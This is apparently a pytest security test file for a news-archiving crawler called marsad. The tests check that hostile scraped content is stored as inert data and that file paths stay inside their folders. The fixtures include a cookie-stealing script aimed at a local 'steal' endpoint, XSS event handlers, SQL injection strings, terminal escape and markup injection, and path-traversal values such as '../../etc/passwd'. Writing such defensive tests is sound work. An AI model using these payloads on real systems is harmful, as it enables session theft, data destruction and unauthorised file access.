"""Scraped pages are hostile input: scripts, event handlers, `javascript:` URLs, strings shaped
like SQL and like terminal markup are stored as data and shown inert; no name or path taken
from a page or a registry entry can place a file outside its folder."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import threading
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import duckdb
import pytest

from preserve.bundle import BundleError, _inside, write_bundle
from spiders.sources import SourceError, load_sources
from storage import CaptureFiles, NewDocument, NewFetch, Store, sha256_hex

if TYPE_CHECKING:
    from collections.abc import Iterator

MARSAD = str(Path(sys.executable).with_name("marsad"))
SQL_TITLE = "Robert'); DROP TABLE documents; --"
SQL_TEXT = "' OR '1'='1'; DELETE FROM captures WHERE 'a'='a"
FETCHED = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
# A server's header, recorded in a failure reason and printed in the crawl summary: an ESC
# (clear screen) and markup that would crash Rich or plant a terminal hyperlink.
RETRY_AFTER = "\x1b[2J[/oops][link=javascript:1]o[/link]"
MARKUP = "[/oops] [link=javascript:alert(1)]open[/link] [bold red]ALERT[/]"
HOSTILE_PAGE = f"""<html><head><title>{SQL_TITLE}</title>
<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script></head>
<body onload="alert('loaded')"><article><h1>{SQL_TITLE}</h1>
<p>Witnesses said an armed group stopped a minibus at a checkpoint on the coast road and took
three passengers away; relatives have had no news of them since Thursday morning.</p>
<p onclick="alert('p')">The relatives wrote the phrase {SQL_TEXT} on a banner at a sit-in,
and a photo of it <img src="x.png" onerror="alert('img')"> circulated widely.</p>
<p>Read <a href="javascript:alert('link')">the statement</a> and {MARKUP} in full.</p>
<script>document.write('<p>INJECTED BY SCRIPT</p>')</script>
</article></body></html>""".encode()


class HostileSite(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""

    def reply(self, status: int, body: bytes, content_type: str, **extra: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in extra.items():
            self.send_header(name, value)
        self.end_headers()
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)

    def do_GET(self) -> None:
        host, port = self.server.server_address[:2]
        base = f"http://{host!s}:{port}"
        if self.path == "/feed.xml":
            links = "".join(f"<item><link>{base}/{p}</link></item>" for p in ("page", "busy"))
            rss = f'<rss version="2.0"><channel>{links}</channel></rss>'
            self.reply(200, rss.encode(), "application/rss+xml")
        elif self.path == "/page":
            self.reply(200, HOSTILE_PAGE, "text/html; charset=utf-8")
        elif self.path == "/busy":
            # The reason recorded for this failure carries the header into the CLI's output.
            self.reply(503, b"busy", "text/plain", **{"Retry-After": RETRY_AFTER})
        else:
            self.reply(404, b"", "text/plain")


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileSite)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    host, port = server.server_address[:2]
    tmp = tmp_path_factory.mktemp("hostile")
    sources = tmp / "sources.toml"
    sources.write_text(
        f'[[source]]\nname = "hostile"\nkind = "feed"\nlanguages = ["en"]\n'
        f'start_urls = ["http://{host!s}:{port}/feed.xml"]\n',
        encoding="utf-8",
    )
    try:
        done = subprocess.run(
            [
                *(MARSAD, "crawl", "--sources", str(sources), "--data-dir", str(tmp / "data")),
                *("--set=DOWNLOAD_DELAY=0", "--set=RETRY_TIMES=0", "--set=AUTOTHROTTLE_ENABLED=0"),
            ],
            capture_output=True,
            text=True,
            timeout=120,
            # Wide enough that no table cell wraps the strings the tests look for.
            env={**os.environ, "COLUMNS": "400"},
        )
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    assert done.returncode == 0, done.stderr[-3000:]
    yield tmp / "data", done.stdout


def test_hostile_page_is_stored_as_data_and_the_database_is_intact(
    crawled: tuple[Path, str],
) -> None:
    data_dir, _ = crawled
    store = Store(data_dir / "marsad.duckdb")
    try:
        (doc,) = store.documents()
        totals = store.totals()
        capture = CaptureFiles(data_dir / "captures").get(doc["capture_sha256"])
    finally:
        store.close()
    # SQL-shaped strings are values: stored exactly, executed never.
    assert doc["title"] == SQL_TITLE
    assert SQL_TEXT in doc["text"]
    assert totals["documents"] == 1 and totals["captures"] == 1
    # The working copy is text: no markup, handlers or scripts, and nothing a script wrote.
    for active in ("<script", "onerror=", "onclick=", "onload=", "alert('link')", "INJECTED"):
        assert active not in doc["text"]
    # The capture is the evidence: exactly what was served, script and all.
    assert capture == HOSTILE_PAGE


def test_markup_and_escapes_in_scraped_strings_are_printed_literally(
    crawled: tuple[Path, str],
) -> None:
    data_dir, stdout = crawled
    store = Store(data_dir / "marsad.duckdb")
    try:
        (failure,) = store.failures()
    finally:
        store.close()
    assert failure["reason"] == f"http_503 (Retry-After: {RETRY_AFTER})"
    assert RETRY_AFTER.replace("\x1b", "\\x1b") in stdout
    assert "\x1b" not in stdout


def test_export_paths_cannot_leave_the_export_folder(tmp_path: Path) -> None:
    root = tmp_path / "bundle"
    root.mkdir()
    for escape in ("../outside", "captures/../../outside", "/etc/passwd", "a/../../b"):
        with pytest.raises(BundleError, match="outside the bundle"):
            _inside(root.resolve(), escape)


def hostile_document(store: Store, data_dir: Path, capture_sha256: str | None = None) -> int:
    body = b"<p>a page</p>"
    digest, path = CaptureFiles(data_dir / "captures").put(body)
    url = "http://x.test/../../../../etc/passwd?name=../../evil"
    fetch_id = store.record_fetch(
        NewFetch(
            run_id=None,
            source="x",
            url=url,
            final_url=url,
            redirects=[],
            status=200,
            headers={"Content-Disposition": ['attachment; filename="../../evil.sh"']},
            fetched_at=FETCHED,
            sha256=digest,
            size=len(body),
            content_type="text/html",
            path=str(path.relative_to(data_dir)),
            marsad_version="test",
        )
    )
    return store.add_document(
        NewDocument(
            url=url,
            final_url=url,
            source="x",
            fetch_id=fetch_id,
            capture_sha256=capture_sha256 or digest,
            text_sha256=sha256_hex(body),
            title="../../../evil",
            text="a page",
            published=None,
            author=None,
            language="en",
            fetched_at=FETCHED,
        )
    )


def test_a_bundle_of_a_hostile_document_stays_inside_its_folder(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    out = tmp_path / "exports" / "inner"
    store = Store(data_dir / "marsad.duckdb")
    try:
        document_id = hostile_document(store, data_dir)
        folder = write_bundle(store, data_dir, [document_id], out)
    finally:
        store.close()
    assert folder.parent == out.resolve()
    written = {p for p in tmp_path.rglob("*") if p.is_file() and data_dir not in p.parents}
    assert written and all(folder in p.parents for p in written)
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["documents"][0]["title"] == "../../../evil"


def test_a_tampered_capture_reference_cannot_reach_outside_the_data_folder(
    tmp_path: Path,
) -> None:
    data_dir = tmp_path / "data"
    secret = tmp_path / "secret.txt"
    secret.write_text("not evidence", encoding="utf-8")
    store = Store(data_dir / "marsad.duckdb")
    try:
        document_id = hostile_document(store, data_dir, capture_sha256="../../secret.txt")
        with pytest.raises(BundleError, match="non-hash"):
            write_bundle(store, data_dir, [document_id], tmp_path / "out")
    finally:
        store.close()
    assert list((tmp_path / "out").iterdir()) == []
    # `marsad verify` looks files up by hash, never by the path a row names.
    db = duckdb.connect(str(data_dir / "marsad.duckdb"))
    db.execute("UPDATE captures SET path = '../secret.txt'")
    db.close()
    done = subprocess.run(
        [MARSAD, "verify", "--data-dir", str(data_dir), "--json"], capture_output=True, text=True
    )
    report = json.loads(done.stdout)
    assert [p["what"] for p in report["problem_list"]] == ["document"]
    assert report["problem_list"][0]["status"] == "dangling"


@pytest.mark.parametrize(
    "name",
    ["../../outside", "..", "a/b", "a\\b", "/abs", "x", "Name", "with space", "%2e%2e", "dot.name"],
)
def test_a_crafted_source_name_is_refused_by_the_registry(tmp_path: Path, name: str) -> None:
    registry = tmp_path / "sources.toml"
    registry.write_text(
        f'[[source]]\nname = {json.dumps(name)}\nkind = "feed"\nlanguages = ["en"]\n'
        'start_urls = ["http://x.test/feed.xml"]\n',
        encoding="utf-8",
    )
    with pytest.raises(SourceError, match="name"):
        load_sources(registry)


@pytest.mark.parametrize(
    "key", ["marsad_data_dir", "MARSAD_DATA_DIR", "item_pipelines", "download_handlers"]
)
def test_a_source_cannot_move_the_data_folder_through_its_settings(
    tmp_path: Path, key: str
) -> None:
    registry = tmp_path / "sources.toml"
    registry.write_text(
        '[[source]]\nname = "sneaky"\nkind = "feed"\nlanguages = ["en"]\n'
        'start_urls = ["http://x.test/feed.xml"]\n'
        f'[source.politeness]\n{key} = "{tmp_path / "elsewhere"}"\n',
        encoding="utf-8",
    )
    with pytest.raises(SourceError, match="politeness"):
        load_sources(registry)


def test_capture_paths_depend_on_the_bytes_alone(tmp_path: Path) -> None:
    files = CaptureFiles(tmp_path / "captures")
    digest, path = files.put(b"../../etc/passwd")
    assert path.resolve().is_relative_to((tmp_path / "captures").resolve())
    assert path.name == digest
    for crafted in ("../" * 3 + "a" * 55, "A" * 64, digest[:-1] + "/"):
        with pytest.raises(ValueError, match="not a SHA-256"):
            files.path_for(crafted)
